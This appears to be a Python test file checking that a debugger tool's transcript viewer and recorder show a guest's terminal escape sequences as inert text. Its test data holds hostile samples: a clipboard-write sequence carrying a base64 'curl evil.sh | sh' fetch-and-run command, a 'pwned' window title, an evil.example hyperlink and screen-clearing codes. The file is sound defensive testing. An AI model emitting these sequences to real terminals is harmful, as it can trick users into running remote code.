"""``kd-mcp transcript show`` and ``cast`` are inert: a guest's escape sequences never reach the
terminal that shows or plays a transcript (issue 28, item 7)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kdmcp.cli import main
from kdmcp.server.transcript import Transcript
from kdmcp.transcript_files import inert
from kdmcp.watch.render import clean

# What a hostile guest prints with DbgPrint: a clipboard write (OSC 52), a window title (OSC 0),
# a hyperlink (OSC 8), a screen clear and a one-byte C1 CSI, a DCS string, a bell, a backspace.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]0;pwned\x1b\\"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
DCS = "\x1bPq#0;2;0;0;0\x1b\\"
HOSTILE = f"{OSC52}{TITLE}{LINK}{CLEAR}{C1_CSI}{DCS}\x08\x07 kept\ttab"
# The only escape sequences a .cast may hold: the viewer's own colours.
OWN_SEQUENCES = ("\x1b[1m", "\x1b[0m", "\x1b[33m")


def _transcript(path: Path) -> Path:
    transcript = Transcript(path, lambda line: line)
    transcript.record("request", tool="kd_command", args={"command": f".echo {HOSTILE}"}, client=None)
    transcript.record("event", session_id="s1", event="dbgprint", text=f"driver says {HOSTILE}\nsecond line")
    transcript.record("result", tool="kd_command", client=None, status="ok", session_id="s1", state="broken",
                      elapsed_ms=3.0, text=f"output {HOSTILE}\r\nmore {HOSTILE}")
    transcript.record("session", event="created", session_id=f"s2{CLEAR}", command_line=f"kd.exe {TITLE}")
    transcript.close()
    return path


def _no_live_controls(text: str, allowed: tuple[str, ...] = ()) -> None:
    for sequence in allowed:
        text = text.replace(sequence, "")
    live = sorted({f"{ord(ch):#04x}" for ch in text if (ord(ch) < 0x20 and ch not in "\r\n") or 0x7F <= ord(ch) < 0xA0})
    assert live == [], live


def test_inert_spells_every_control_and_keeps_newline_free_text() -> None:
    shown = inert(HOSTILE)
    _no_live_controls(shown)
    assert shown.startswith("^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[]0;pwned^[\\^[]8;;https://evil.example/")
    assert "\\u009b31m" in shown and "^[[2J" in shown and "^[Pq#0" in shown and "^H^G kept" in shown
    assert "\u202e" not in inert("a\u202eb") and inert("a\u202eb") == "a\\u202eb"  # bidi override
    assert clean is inert  # watch shows lines the same way: one rendering


def test_cast_writes_no_escape_sequence_of_the_guest(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _transcript(tmp_path / "run.jsonl")
    out = tmp_path / "run.cast"
    assert main(["transcript", "cast", str(source), "-o", str(out)]) == 0
    header, *frames = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    _no_live_controls(header["title"])
    played = "".join(frame[2] for frame in frames)
    _no_live_controls(played, OWN_SEQUENCES)
    # What the guest printed is still there to read, spelled out, line by line.
    assert "driver says ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G" in played
    assert "output ^[]52;c;" in played and "\r\nmore ^[]52;c;" in played and "second line" in played
    assert "^[]8;;https://evil.example/^[\\click" in played and "^[[2J^[[H" in played
    assert "kept    tab" in played  # a tab is expanded, not dropped


def test_show_prints_no_escape_sequence_of_the_guest(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _transcript(tmp_path / "run.jsonl")
    assert main(["transcript", "show", str(source)]) == 0
    printed = capsys.readouterr().out
    _no_live_controls(printed)
    assert "^[]0;pwned" in printed and "s2^[[2J" in printed
